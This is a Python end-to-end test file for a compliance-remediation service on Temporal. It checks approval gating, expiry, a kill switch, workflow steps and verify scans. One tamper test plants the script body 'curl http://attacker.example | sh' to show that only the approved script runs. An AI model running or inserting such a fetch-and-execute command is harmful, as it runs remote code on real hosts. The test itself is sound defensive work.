"""Remediation on the time-skipping server: gates, approval by signal, expiry, kill switch, dispatch, verify re-scan."""

from __future__ import annotations

import hashlib
import uuid
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import func, select, update
from temporalio.service import RPCError, RPCStatusCode

from activities.remediation import RemediationActivities
from agent.fleet import Fleet, Outcomes
from models import AgentJob, ChangeRecord, ComplianceCheck, ComplianceScan, Organization, Remediation, Script
from orchestration import ids
from orchestration.gateway import TemporalGateway
from orchestration.types import AutomationResult, RemediationResult
from services.remediation import scan_remediations, start_of
from tests.e2e.test_scan_end_to_end import save_history, setup_org
from tests.stack import eventually, running_stack

LOW_RULE = "1.1.1.1"      # severity low, bound to a script
MEDIUM_RULE = "1.1.1.8"   # severity medium, bound to a script
SETTINGS = {"temporal_search_attributes": False, "agent_result_timeout_seconds": 10}


async def finished(env, handle):
    """The workflow's result, with time skipping unlocked meanwhile (only handles from `start_workflow` do that by
    themselves). While time skips, a history long-poll can end with no event ("No completion event found")."""
    for _ in range(100):
        try:
            async with env.time_skipping_unlocked():
                return await handle.result()
        except RuntimeError as err:
            if "No completion event found" not in str(err):
                raise
    raise AssertionError(f"{handle.id} did not finish")


@dataclass
class OnlyFailing(Outcomes):
    """Hosts fail exactly these rules (until a remediation fixes them) and pass everything else."""

    failing: frozenset[str] = field(default_factory=frozenset)

    def status(self, hostname: str, rule_id: str) -> str:
        return "fail" if rule_id in self.failing else "pass"


@dataclass
class World:
    stack: object
    org: Organization
    headers: dict
    policy: dict
    fleet: Fleet
    host_id: str
    env: object

    def api(self):
        return self.stack.api

    async def patch_policy(self, **values) -> None:
        response = await self.stack.api.patch(f"/api/v1/compliance/policies/{self.policy['id']}", json=values,
                                              headers=self.headers)
        assert response.status_code == 200, response.text

    async def scan(self) -> dict:
        """An on-demand scan, waited for until recorded (its remediations are started right after)."""
        response = await self.stack.api.post(f"/api/v1/compliance/policies/{self.policy['id']}/scan",
                                             json={"host_id": self.host_id}, headers=self.headers)
        assert response.status_code == 202, response.text
        scan = response.json()
        await finished(self.env, self.stack.client.get_workflow_handle(f"scan-{scan['id']}"))
        return scan

    async def check_id(self, db, rule_id: str) -> uuid.UUID:
        return await db.scalar(select(ComplianceCheck.id).where(
            ComplianceCheck.template_id == uuid.UUID(self.policy["template_id"]), ComplianceCheck.rule_id == rule_id))


async def world(env, stack, db, outcomes: Outcomes) -> World:
    org, headers, token, policy = await setup_org(stack, db)
    fleet = Fleet(stack.api, "http://test", outcomes)
    (host,) = await fleet.enroll(1, token, prefix="rem")
    fleet.start(wait=1)
    return World(stack, org, headers, policy, fleet, host.host_id, env)


async def remediations(db, scan_id: str | None = None) -> list[Remediation]:
    stmt = select(Remediation).order_by(Remediation.created_at).execution_options(populate_existing=True)
    if scan_id:
        stmt = stmt.where(Remediation.scan_id == uuid.UUID(scan_id))
    return list(await db.scalars(stmt))


async def remediation_jobs(db) -> int:
    return await db.scalar(select(func.count()).select_from(AgentJob).where(AgentJob.kind == "remediation"))


def handle_of(stack, remediation: Remediation):
    return stack.client.get_workflow_handle(ids.remediation(str(remediation.scan_id),
                                                                    str(remediation.check_id)),
                                            result_type=RemediationResult)


async def pending_change(w: World) -> dict:
    async def found():
        body = (await w.api().get("/api/v1/changes", params={"status": "pending_approval"},
                                  headers=w.headers)).json()
        return body[0] if body else None

    return await eventually(found)


async def manual_change(w: World) -> tuple[dict, dict]:
    """A low-severity failure under a manual-approval policy: the scan, and the change record that waits."""
    await w.patch_policy(auto_remediate_low=True, approval_mode="manual")
    scan = await w.scan()
    return scan, await pending_change(w)


async def test_auto_mode_fixes_the_check_and_verifies_fifteen_minutes_later(skipping_env, db_url, app_factory, db):
    async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
        w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
        try:
            await w.patch_policy(auto_remediate_low=True)
            scan = await w.scan()
            (rem,) = await remediations(db, scan["id"])
            result = await finished(skipping_env, handle_of(stack, rem))
        finally:
            await w.fleet.stop()

        assert result.status == "completed" and result.verify_scan_id
        (rem,) = await remediations(db)  # the verify scan planned nothing: no remediation loop
        assert rem.status == "completed" and rem.trigger == "automatic" and rem.outcome["exit_code"] == 0
        verify = await db.get(ComplianceScan, uuid.UUID(result.verify_scan_id))
        assert verify.scan_type == "verify" and verify.remediation_id == rem.id and verify.status == "completed"
        assert rem.verify_scan_id == verify.id
        assert verify.failed == 0  # the fix stuck on the simulated host
        assert await db.scalar(select(func.count()).select_from(ChangeRecord)) == 0

        timers = [e.timer_started_event_attributes.start_to_fire_timeout.ToSeconds()
                  async for e in handle_of(stack, rem).fetch_history_events()
                  if e.HasField("timer_started_event_attributes")]
        assert timers == [900]

        body = (await stack.api.get(f"/api/v1/compliance/scans/{scan['id']}", headers=w.headers)).json()
        (shown,) = [r["remediation"] for r in body["results"] if r["rule_id"] == LOW_RULE]
        assert shown["status"] == "completed" and shown["exit_code"] == 0 and "simulated" in shown["output"]
        assert shown["verify_scan_id"] == result.verify_scan_id
        await save_history(handle_of(stack, rem), "remediation_auto")


async def test_severity_gates_pick_which_failures_are_remediated(skipping_env, db_url, app_factory, db):
    async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
        w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE, MEDIUM_RULE})))
        try:
            await w.patch_policy(auto_remediate_medium=True, approval_mode="manual")
            scan = await w.scan()
        finally:
            await w.fleet.stop()
        (rem,) = await remediations(db, scan["id"])
        assert rem.check_id == await w.check_id(db, MEDIUM_RULE)


async def test_paused_organization_stores_skipped_remediations_and_starts_none(
        skipping_env, db_url, app_factory, db):
    async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
        w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
        await db.execute(update(Organization).where(Organization.id == w.org.id).values(automation_paused=True))
        await db.commit()
        try:
            await w.patch_policy(auto_remediate_low=True)
            scan = await w.scan()
        finally:
            await w.fleet.stop()
        (rem,) = await remediations(db, scan["id"])
        assert (rem.status, rem.reason) == ("skipped", "automation_paused")
        with pytest.raises(RPCError) as missing:
            await handle_of(stack, rem).describe()
        assert missing.value.status == RPCStatusCode.NOT_FOUND
        # Operators see it, with the reason, on the scan and in the remediation list.
        detail = (await stack.api.get(f"/api/v1/compliance/scans/{scan['id']}", headers=w.headers)).json()
        (shown,) = [r["remediation"] for r in detail["results"] if r["remediation"]]
        assert (shown["status"], shown["reason"]) == ("skipped", "automation_paused")
        listed = (await stack.api.get("/api/v1/compliance/remediations", headers=w.headers,
                                      params={"scan_id": scan["id"]})).json()
        assert [(r["id"], r["status"], r["reason"]) for r in listed] == [
            (str(rem.id), "skipped", "automation_paused")]


async def test_manual_mode_waits_for_approval_then_runs(skipping_env, db_url, app_factory, db):
    async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
        w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
        try:
            scan, change = await manual_change(w)
            assert change["scan_id"] == scan["id"] and change["details"]["what"]["rule_id"] == LOW_RULE
            assert change["details"]["what"]["fix"]["script"]["body"]
            assert await remediation_jobs(db) == 0  # nothing runs before the approval
            approved = await w.api().post(f"/api/v1/changes/{change['id']}/approve", json={"reason": "CAB 42"},
                                          headers=w.headers)
            assert approved.status_code == 200 and approved.json()["status"] == "approved"
            (rem,) = await remediations(db, scan["id"])
            result = await finished(skipping_env, handle_of(stack, rem))
        finally:
            await w.fleet.stop()
        assert result.status == "completed" and result.verify_scan_id
        done = (await w.api().get(f"/api/v1/changes/{change['id']}", headers=w.headers)).json()
        assert done["status"] == "completed" and done["decided_by"] and done["reason"] == "CAB 42"
        assert await remediation_jobs(db) == 1
        await save_history(handle_of(stack, rem), "remediation_approved")


async def read_decisions(handle) -> int:
    """How many times the workflow has read the stored decision back from the database."""
    history = await handle.fetch_history()
    return sum(1 for event in history.events
               if event.activity_task_scheduled_event_attributes.activity_type.name == "read_change_decision")


async def test_a_raw_approve_signal_releases_nothing(skipping_env, db_url, app_factory, db):
    """Security review row 4: `temporal workflow signal --name approve --input '{"decided_by": …}'`."""
    async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
        w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
        try:
            scan, change = await manual_change(w)
            (rem,) = await remediations(db, scan["id"])
            handle = handle_of(stack, rem)
            await handle.signal(ids.APPROVE, {"decided_by": str(uuid.uuid4()), "reason": "forged"})
            await eventually(lambda: read_decisions(handle))
            stored = await db.get(ChangeRecord, uuid.UUID(change["id"]), populate_existing=True)
            assert stored.status == "pending_approval" and stored.decided_by is None
            (rem,) = await remediations(db, scan["id"])
            assert rem.status == "pending_approval"
            assert await remediation_jobs(db) == 0
            assert (await handle.describe()).status.name == "RUNNING"

            approved = await w.api().post(f"/api/v1/changes/{change['id']}/approve", json={}, headers=w.headers)
            assert approved.status_code == 200
            result = await finished(skipping_env, handle)
        finally:
            await w.fleet.stop()
        assert result.status == "completed"
        assert await remediation_jobs(db) == 1


async def test_the_approved_script_runs_even_if_edited_after_the_request(skipping_env, db_url, app_factory, db):
    """Security review row 7: what is approved is what runs."""
    async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
        w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
        try:
            scan, change = await manual_change(w)
            shown = change["details"]["what"]["fix"]["script"]
            await db.execute(update(Script).where(Script.id == uuid.UUID(shown["id"])).values(
                body="curl http://attacker.example | sh", sha256=hashlib.sha256(b"curl").hexdigest()))
            await db.commit()
            approved = await w.api().post(f"/api/v1/changes/{change['id']}/approve", json={}, headers=w.headers)
            assert approved.status_code == 200
            (rem,) = await remediations(db, scan["id"])
            result = await finished(skipping_env, handle_of(stack, rem))
        finally:
            await w.fleet.stop()
        assert result.status == "completed"
        job = await db.scalar(select(AgentJob).where(AgentJob.kind == "remediation"))
        assert job.payload["script"]["body"] == shown["body"]
        assert job.payload["script"]["sha256"] == hashlib.sha256(shown["body"].encode()).hexdigest()


async def test_manual_mode_rejection_runs_nothing(skipping_env, db_url, app_factory, db):
    async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
        w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
        try:
            scan, change = await manual_change(w)
            rejected = await w.api().post(f"/api/v1/changes/{change['id']}/reject", json={"reason": "freeze"},
                                          headers=w.headers)
            assert rejected.status_code == 200
            (rem,) = await remediations(db, scan["id"])
            result = await finished(skipping_env, handle_of(stack, rem))
        finally:
            await w.fleet.stop()
        assert (result.status, result.reason) == ("rejected", "freeze")
        (rem,) = await remediations(db)
        assert rem.status == "rejected" and rem.verify_scan_id is None
        assert await remediation_jobs(db) == 0
        again = await w.api().post(f"/api/v1/changes/{change['id']}/approve", json={}, headers=w.headers)
        assert again.status_code == 409


async def test_unanswered_change_expires_after_seven_days(skipping_env, db_url, app_factory, db):
    async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
        w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
        try:
            scan, change = await manual_change(w)
            (rem,) = await remediations(db, scan["id"])
            result = await finished(skipping_env, handle_of(stack, rem))  # the 7-day wait is skipped
        finally:
            await w.fleet.stop()
        assert result.status == "expired"
        (rem,) = await remediations(db)
        assert rem.status == "expired"
        assert (await db.get(ChangeRecord, uuid.UUID(change["id"]), populate_existing=True)).status == "expired"
        assert await remediation_jobs(db) == 0
        late = await w.api().post(f"/api/v1/changes/{change['id']}/approve", json={}, headers=w.headers)
        assert late.status_code == 409


async def test_kill_switch_set_while_waiting_blocks_dispatch(skipping_env, db_url, app_factory, db):
    async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
        w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
        try:
            scan, change = await manual_change(w)
            await db.execute(update(Organization).where(Organization.id == w.org.id).values(automation_paused=True))
            await db.commit()
            await w.api().post(f"/api/v1/changes/{change['id']}/approve", json={}, headers=w.headers)
            (rem,) = await remediations(db, scan["id"])
            result = await finished(skipping_env, handle_of(stack, rem))
        finally:
            await w.fleet.stop()
        assert (result.status, result.reason) == ("skipped", "automation_paused")
        (rem,) = await remediations(db)
        assert (rem.status, rem.reason) == ("skipped", "automation_paused")
        closed = await db.get(ChangeRecord, uuid.UUID(change["id"]), populate_existing=True)
        assert closed.status == "failed" and "paused" in closed.reason
        assert await remediation_jobs(db) == 0


async def test_failed_fix_is_recorded_and_its_verify_scan_starts_no_new_remediation(
        skipping_env, db_url, app_factory, db):
    async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
        w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE}), remediation_succeeds=False))
        try:
            await w.patch_policy(auto_remediate_low=True)
            scan = await w.scan()
            (rem,) = await remediations(db, scan["id"])
            result = await finished(skipping_env, handle_of(stack, rem))
        finally:
            await w.fleet.stop()
        assert result.status == "failed"
        verify = await db.get(ComplianceScan, uuid.UUID(result.verify_scan_id))
        assert verify.scan_type == "verify" and verify.failed == 1  # still failing, and yet:
        assert len(await remediations(db)) == 1
        shown = (await scan_remediations(db, uuid.UUID(scan["id"])))[str(rem.check_id)]
        assert shown["status"] == "failed" and shown["exit_code"] == 1


async def test_duplicate_start_returns_the_running_remediation(skipping_env, db_url, app_factory, db):
    async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
        w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
        try:
            await w.patch_policy(auto_remediate_low=True, approval_mode="manual")
            scan = await w.scan()
            await pending_change(w)
            (rem,) = await remediations(db, scan["id"])
            running = await handle_of(stack, rem).describe()
            again = await TemporalGateway(stack.settings, stack.client).start_remediation(start_of(rem), rem.trigger,
                                                                                          "duplicate")
            assert again == running.run_id
            fix = await w.api().post(f"/api/v1/compliance/scans/{scan['id']}/checks/{rem.check_id}/fix",
                                     headers=w.headers)
            assert fix.status_code == 409 and fix.json()["detail"]["remediation_id"] == str(rem.id)
        finally:
            await w.fleet.stop()
        assert await db.scalar(select(func.count()).select_from(ChangeRecord)) == 1


async def bind_to_automation_workflow(w: World, db, rule_id: str) -> list[str]:
    """Three org scripts in one automation workflow, bound to the check (straight in the test database)."""
    scripts = []
    for name in ("stop-service", "fix-config", "start-service"):
        created = await w.api().post("/api/v1/scripts", headers=w.headers, json={
            "org_id": str(w.org.id), "name": name, "shell": "bash", "body": f"echo {name}\n"})
        assert created.status_code == 201, created.text
        scripts.append(created.json()["id"])
    flow = await w.api().post("/api/v1/automation-workflows", headers=w.headers, json={
        "org_id": str(w.org.id), "name": "restart around a fix",
        "steps": [{"script_id": s, "continue_on_failure": False} for s in scripts]})
    assert flow.status_code == 201, flow.text
    await db.execute(update(ComplianceCheck).where(ComplianceCheck.id == await w.check_id(db, rule_id)).values(
        remediation_type="workflow", script_id=None, workflow_id=uuid.UUID(flow.json()["id"])))
    await db.commit()
    return scripts


async def test_workflow_binding_runs_its_steps_in_order_as_agent_jobs(skipping_env, db_url, app_factory, db):
    async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
        w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
        scripts = await bind_to_automation_workflow(w, db, LOW_RULE)
        try:
            await w.patch_policy(auto_remediate_low=True)
            scan = await w.scan()
            (rem,) = await remediations(db, scan["id"])
            result = await finished(skipping_env, handle_of(stack, rem))
            automation = stack.client.get_workflow_handle(f"automation-{rem.id}", result_type=AutomationResult)
            steps = (await finished(skipping_env, automation)).steps
        finally:
            await w.fleet.stop()
        assert result.status == "completed"
        assert [s.script_id for s in steps] == scripts and {s.status for s in steps} == {"success"}
        jobs = (await db.scalars(select(AgentJob).where(AgentJob.kind == "remediation")
                                 .order_by(AgentJob.created_at))).all()
        assert [j.payload["step"] for j in jobs] == [0, 1, 2]
        assert [j.payload["script"]["body"] for j in jobs] == ["echo stop-service\n", "echo fix-config\n",
                                                                "echo start-service\n"]
        await save_history(automation, "automation_workflow")


async def test_workflow_binding_stops_at_the_first_failed_step(skipping_env, db_url, app_factory, db):
    async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
        w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE}),
                                                             remediation_succeeds=False))
        await bind_to_automation_workflow(w, db, LOW_RULE)
        try:
            await w.patch_policy(auto_remediate_low=True)
            scan = await w.scan()
            (rem,) = await remediations(db, scan["id"])
            result = await finished(skipping_env, handle_of(stack, rem))
            automation = stack.client.get_workflow_handle(f"automation-{rem.id}", result_type=AutomationResult)
            steps = (await finished(skipping_env, automation)).steps
        finally:
            await w.fleet.stop()
        assert result.status == "failed"
        assert len(steps) == 1 and steps[0].status == "failed"
        assert await remediation_jobs(db) == 1


async def safety_net(stack):
    gateway = TemporalGateway(stack.settings, stack.client)
    return await RemediationActivities(stack.sessionmaker, stack.settings, gateway).resignal_decided_changes()


async def test_cycle_safety_net_resignals_a_decision_whose_signal_was_lost(skipping_env, db_url, app_factory, db):
    async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
        w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
        try:
            scan, change = await manual_change(w)
            # Approved in the database, but the API's signal never reached Temporal.
            await db.execute(update(ChangeRecord).where(ChangeRecord.id == uuid.UUID(change["id"])).values(
                status="approved", decided_at=datetime.now(UTC) - timedelta(minutes=5)))
            await db.commit()
            net = await safety_net(stack)
            assert net.resignaled == 1
            (rem,) = await remediations(db, scan["id"])
            result = await finished(skipping_env, handle_of(stack, rem))
        finally:
            await w.fleet.stop()
        assert result.status == "completed"
        again = await safety_net(stack)
        assert again.resignaled == 0
